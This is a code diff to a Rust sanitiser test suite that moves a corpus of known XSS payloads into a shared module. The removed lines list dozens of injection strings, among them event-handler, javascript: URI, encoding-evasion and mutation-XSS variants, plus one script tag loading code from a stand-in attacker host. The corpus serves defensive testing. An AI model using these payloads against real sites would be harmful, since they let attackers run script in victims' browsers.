@@ -19,6 +19,10 @@ use proptest::prelude::*;
 #[path = "oracle/html.rs"]
 mod oracle;
 use oracle::{html_fault, markup_in};
+// The named XSS corpus, shared with the feed tests (tests/api/syndication.rs).
+#[path = "oracle/xss.rs"]
+mod xss;
+use xss::XSS_PAYLOADS;
 
 const FRAGMENTS: &[&str] = &[
     "<",
@@ -158,68 +162,6 @@ proptest! {
         check_markdown(&input).map_err(TestCaseError::fail)?;
     }
 }
-
-/// Known payloads, from the usual cheat sheets' families (written for this test).
-const XSS_PAYLOADS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "<script src=\"https://evil.example/x.js\"></script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&#x3C;img src=x onerror=alert(1)&#x3E;",
-    "&amp;amp;amp;amp;amp;lt;b&amp;amp;amp;amp;amp;gt;",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"x\" onerror=\"alert(1)\"/>",
-    "<img src=`x` onerror=`alert(1)`>",
-    "<img/src=x/onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<a href=\"javascript:alert(1)\">clic</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">clic</a>",
-    "<a href=\"java&#09;script:alert(1)\">clic</a>",
-    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">clic</a>",
-    "<a href=\" javascript:alert(1)\">clic</a>",
-    "<a href=\"vbscript:msgbox(1)\">clic</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">clic</a>",
-    "[clic](javascript:alert(1))",
-    "[clic](JAVASCRIPT:alert(1))",
-    "[clic](  javascript:alert(1)  )",
-    "[clic](&#106;avascript:alert(1))",
-    "![image](javascript:alert(1))",
-    "![image](x\" onerror=\"alert(1))",
-    "[clic][ref]\n\n[ref]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "<a href=\"https://ok.example\" onclick=\"alert(1)\">clic</a>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<p onmouseover=\"alert(1)\">survol</p>",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"javascript:alert(1)\">",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<style>@import 'javascript:alert(1)';</style>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<base href=\"javascript:alert(1)//\">",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>",
-    "<<script>alert(1);//<</script>",
-    "<img src=x onerror=alert(1)\0>",
-    "<a href=\"jav\u{0}ascript:alert(1)\">clic</a>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">clic</text></a></svg>",
-    "<template><script>alert(1)</script></template>",
-    // Found by the markdown fuzz target: a payload-looking text in an indented code block is
-    // text (its `"` left as is by the serialiser), not an attribute.
-    "\thref=\"javascript:\r*",
-];
 
 #[test]
 fn known_xss_payloads_are_defused_in_comments_and_article_bodies() {
